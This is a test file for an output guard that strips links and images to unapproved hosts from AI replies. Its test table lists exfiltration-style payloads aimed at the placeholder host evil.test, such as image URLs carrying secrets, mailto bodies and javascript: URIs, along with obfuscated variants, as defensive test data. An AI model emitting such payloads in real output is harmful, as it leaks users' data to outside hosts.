import { testContext } from '@org/ai-testing';
import { describe, expect, it } from 'vitest';
import { createGuard } from '../guard/guard.ts';
import { egressRail } from './egress.ts';

const rail = egressRail({ allowedHosts: ['docs.example.com', '*.ok.test', 'dev.test:8443'] });

async function screen(text: string): Promise<string> {
  const decision = await createGuard({ rails: [rail] }).check(text, { stage: 'output', context: testContext() });
  return decision.action === 'redact' ? decision.text : text;
}

describe('egressRail', () => {
  it.each([
    ['See [the docs](https://evil.test/x?d=1).', 'See the docs [link removed].'],
    ['![chart](https://evil.test/p.png?d=secret "t") x', '[image removed] x'],
    ['[![a](https://evil.test/i)](https://evil.test)', '[image removed] [link removed]'],
    ['[r]: https://evil.test/x', '[link removed]'],
    ['[r]:\n  <//evil.test/x> "t"', '[link removed] "t"'],
    ['<https://evil.test/a>', '[link removed]'],
    ['go to https://evil.test/a_(b), now', 'go to [link removed], now'],
    ['(www.evil.test)', '([link removed])'],
    ['see www.\u0435vil.test/x', 'see [link removed]'],
    ['<img src="//evil.test/a">', '[image removed]'],
    ['<IMG/SRC=//evil.test/a >', '[image removed]'],
    ["<a href='https://evil.test'>x</a>", '[link removed]x</a>'],
    ['<p style="background:url(//evil.test/a)">x', '[link removed]x'],
    ['<b onclick="x()">', '[link removed]'],
    ['<script>', '[link removed]'],
    ['<img srcset="https://docs.example.com/a 1x, //evil.test/b 2x">', '[image removed]'],
    [`<img title="${'x'.repeat(3000)}" src=//evil.test>!`, `< img title="${'x'.repeat(3000)}" src=//evil.test>!`],
    [`<img src="//evil.test/${'x'.repeat(3000)}">!`, '[image removed]!'],
    ['[x](javascript:alert(1))', 'x [link removed]'],
    ['javascript:alert(1) data:text/html;base64,AAAA', '[link removed] [link removed]'],
    ['[x](data:text/html,abc)', 'x [link removed]'],
    ['[x](ht\ntps://evil.test)', 'x [link removed]'],
    ['[x](  //evil.test )', 'x [link removed]'],
    ['[x](/\\evil.test)', 'x [link removed]'],
    ['[x](\\\\evil.test\\a)', 'x [link removed]'],
    ['[x](https&#58;//evil.test)', 'x [link removed]'],
    ['&#104;ttps&colon;&sol;/evil.test', '[link removed]'],
    ['[x](%2F%2Fevil.test)', 'x [link removed]'],
    ['[x](HTTPS://EVIL.test)', 'x [link removed]'],
    ['[x](https://evil。test)', 'x [link removed]'],
    ['ｈttps：//evil.test', '[link removed]'],
    ['h\u200bttps://evil.test', '[link removed]'],
    ['https:\\/evil.test', '[link removed]'],
    ['[x](https://docs.example.com@evil.test)', 'x [link removed]'],
    ['[x](https://docs.example.com.evil.test)', 'x [link removed]'],
    ['[x](https://ok.test)', 'x [link removed]'],
    ['[x](https://dev.test:9000/)', 'x [link removed]'],
    ['https://docs.example.com/?next=https://evil.test', 'https://docs.example.com/?next=[link removed]'],
    [`[${'a'.repeat(300)}](https://evil.test)`, `[${'a'.repeat(300)}] [link removed]`],
    [`https://evil.test/${'x'.repeat(5000)} tail`, '[link removed] tail'],
    [`![a](data:image/png;base64,${'A'.repeat(4000)}) b`, '[image removed]) b'],
    [`[a](https://evil.test/${'A'.repeat(4000)}) b`, '[link removed]) b'],
    ['[x](mailto:eve@evil.test?body=secret)', 'x [link removed]'],
    ['ab[cd](https://evil.test)', 'ab[cd] [link removed]'],
    ['ht[x](//e)tps://evil.test', 'ht[x] [link removed]tps://evil.test'.replace('tps://evil.test', '[link removed]')],
  ])('neutralises %j', async (text, output) => {
    expect(await screen(text)).toBe(output);
  });

  it.each([
    'Claims are cited [1] and [2].',
    '[a](https://docs.example.com/x) [b](https://a.b.ok.test) [c](https://dev.test:8443/y) https://docs.example.com.',
    '[guide](guide/start.md#top) [top](#top) ![logo](./logo.png)',
    'if a <b and c> d, x<y, List<string>, <b>bold</b>, <br/>',
    'note: this, 10:30, C:\\Users, std::vector, JavaScript: the good parts, metadata: none',
    'example.com/path and README.md are text',
    '[Remember]: careful: this is a note',
    '- [ ] open\n- [x] done',
    'the www.\u2026 and what follows',
  ])('leaves %j alone', async (text) => {
    expect(await screen(text)).toBe(text);
  });

  it('allows nothing by default, and refuses entries that are no host names', async () => {
    const guard = createGuard({ rails: [egressRail()] });
    const decision = await guard.check('[a](https://docs.example.com)', { stage: 'output', context: testContext() });
    expect(decision).toMatchObject({ action: 'redact', text: 'a [link removed]' });
    expect(() => egressRail({ allowedHosts: ['https://docs.example.com'] })).toThrow(/host names/);
  });

  it('can block, before anything of the link is out', async () => {
    const guard = createGuard({ rails: [egressRail({ action: 'block' })] });
    const stream = guard.stream({ stage: 'output', context: testContext() });
    expect(await stream.push('text https://evil.test/x and more')).toBe('text ');
    expect((await stream.end()).decision.action).toBe('block');
  });
});
